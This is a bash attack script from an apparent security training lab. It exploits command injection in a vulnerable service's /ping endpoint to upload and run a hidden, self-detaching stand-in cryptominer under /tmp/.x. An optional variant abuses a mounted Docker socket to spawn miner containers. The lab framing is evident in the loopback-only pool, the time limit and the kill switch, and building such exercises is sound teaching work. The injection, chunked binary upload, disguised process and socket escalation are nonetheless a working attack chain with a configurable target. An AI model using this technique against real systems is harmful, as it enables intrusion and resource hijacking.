#!/usr/bin/env bash
# The unknown-binary exercise: drop the lab payload into the running
# vulnerable service the way an intruder would, through the app's own
# command injection (GET /ping?ip=127.0.0.1;COMMAND), and start it.
#
#   lab/attack.sh [--max-seconds N]   (make -C lab attack)
#   lab/attack.sh --via-socket N      (make -C lab attack-socket: the second variant)
#   lab/attack.sh --stop              (make -C lab attack-stop: the kill switch)
#
# 1. builds lab/payload/kworker.c with this host's gcc (the intruder's own
#    toolchain; same Debian release as the image);
# 2. starts the stand-in mining pool (lab/payload/pool.py) on the web
#    container's loopback: lab infrastructure, started with docker exec;
# 3. uploads the binary in base64 chunks through the injection, decodes it
#    to /tmp/.x, and runs it (it hides itself and detaches).
# The payload stops by itself after --max-seconds (default 90).
#
# --via-socket N follows the original course exercise instead (MITRE T1610
# Deploy Container, T1496 Resource Hijacking): the web container has the
# Docker socket mounted (make -C lab start LAB_SOCKET=exposed), so the
# intruder uploads the payload, the pool and lab/payload/deploy_miners.py
# through the injection and starts N "miner" containers from a local image
# through the Engine API. They have no network (loopback only), carry the
# label bulwark-lab.role=miner, and are removed by --stop.
set -euo pipefail

kRoot="$(cd "$(dirname "${BASH_SOURCE[0]}")/.." && pwd)"
readonly kRoot
readonly kUrl="${LAB_URL:-http://127.0.0.1:15000}"
readonly kProject="${LAB_PROJECT:-bulwark-lab}"  # bulwark-lab-hardened: the same attack on the fixed lab
readonly kMinerLabel=bulwark-lab.role=miner
max_seconds=90
stop=0
miners=0
while [[ $# -gt 0 ]]; do
  case "$1" in
    --max-seconds) max_seconds="$2"; shift 2 ;;
    --via-socket) miners="$2"; shift 2 ;;
    --stop) stop=1; shift ;;
    *) echo "usage: $0 [--max-seconds N] [--via-socket N] [--stop]" >&2; exit 2 ;;
  esac
done
[[ "${miners}" =~ ^[0-5]$ ]] || { echo "attack: --via-socket takes 1 to 5 containers" >&2; exit 2; }

Say() { printf 'attack: %s\n' "$*"; }
Die() { printf 'attack: error: %s\n' "$*" >&2; exit 1; }

web="$(docker ps -q --filter "label=com.docker.compose.project=${kProject}" \
  --filter label=com.docker.compose.service=web | head -n 1)"
[[ -n "${web}" ]] || Die "the lab's web container is not running (make -C lab start)"

RemoveMiners() {
  local ids
  ids="$(docker ps -aq --filter "label=${kMinerLabel}")"
  [[ -z "${ids}" ]] && return 0
  docker rm -f ${ids} >/dev/null
  Say "removed $(wc -w <<<"${ids}") miner container(s)"
}

if (( stop )); then
  docker exec "${web}" touch /tmp/.bulwark-lab-stop
  Say "kill switch set in ${web:0:12}: the payload stops within a second"
  RemoveMiners
  exit 0
fi
if (( miners )) && ! docker exec "${web}" test -S /var/run/docker.sock; then
  Die "the web container has no Docker socket: start the lab with 'make -C lab start LAB_SOCKET=exposed'"
fi

# Inject COMMAND: runs it through /ping's shell, as the app's user.
Inject() { curl -sS -m 30 --get --data-urlencode "ip=127.0.0.1 -c 1 -W 1 >/dev/null; $1" "${@:2}" "${kUrl}/ping"; }

# First, does the injection work at all? The probe's marker appears only
# when the shell ran it ($((6*7)) expanded), not when the app echoes input.
probe="$(Inject 'echo bulwark-probe-$((6*7))' -w ' HTTP %{http_code}' 2>&1 || true)"
if ! grep -q 'bulwark-probe-42' <<<"${probe}"; then
  Say "the injection was refused: ${kUrl}/ping answered $(tail -c 200 <<<"${probe}" | tr '\n' ' ')"
  Say "nothing was uploaded or run"
  exit 3
fi

work="$(mktemp -d /tmp/bulwark-attack.XXXXXX)"
trap 'rm -rf "${work}"' EXIT
command -v gcc >/dev/null || Die "gcc is missing (apt-get install build-essential)"
gcc -O2 -o "${work}/kworker" "${kRoot}/lab/payload/kworker.c"
Say "payload built: $(sha256sum "${work}/kworker" | cut -c1-16)... ($(stat -c %s "${work}/kworker") bytes)"

# Upload LOCAL REMOTE: base64 chunks through the injection, decoded there.
Upload() {
  local chunks=0
  Inject "rm -f $2.b64" >/dev/null
  base64 -w 3000 "$1" >"${work}/chunks"
  while IFS= read -r chunk; do
    Inject "printf %s ${chunk} >> $2.b64" >/dev/null
    chunks=$((chunks + 1))
  done <"${work}/chunks"
  Inject "base64 -d $2.b64 > $2 && rm $2.b64 && chmod +x $2" >/dev/null
  Say "uploaded $(basename "$1") to $2 in ${chunks} requests to ${kUrl}/ping"
}

docker exec "${web}" rm -f /tmp/.bulwark-lab-stop
if (( miners )); then
  Upload "${work}/kworker" /tmp/.x
  Upload "${kRoot}/lab/payload/pool.py" /tmp/.p.py
  Upload "${kRoot}/lab/payload/deploy_miners.py" /tmp/.d.py
  image="$(docker inspect --format '{{.Config.Image}}' "${web}")"
  Inject "python3 /tmp/.d.py --payload /tmp/.x --pool /tmp/.p.py --image ${image} --count ${miners} \
    --max-seconds ${max_seconds} 2>&1" | sed 's/^/attack: engine: /'
  running="$(docker ps -q --filter "label=${kMinerLabel}" | wc -l)"
  (( running == miners )) || Die "${running} of ${miners} miner containers are running"
  Say "${miners} miner container(s) started from ${image} through the Docker socket; they stop after ${max_seconds} s"
  exit 0
fi
docker exec -d "${web}" python3 -c "$(cat "${kRoot}/lab/payload/pool.py")" --port 3333 \
  --max-seconds "$((max_seconds + 30))" --log /tmp/bulwark-lab-pool.log
Say "stand-in mining pool on the web container's 127.0.0.1:3333 (log: /tmp/bulwark-lab-pool.log there)"

Upload "${work}/kworker" /tmp/.x
Inject "/tmp/.x --pool-port 3333 --max-seconds ${max_seconds}" >/dev/null
Say "payload started in ${web:0:12}; it stops by itself after ${max_seconds} s (make -C lab attack-stop stops it now)"
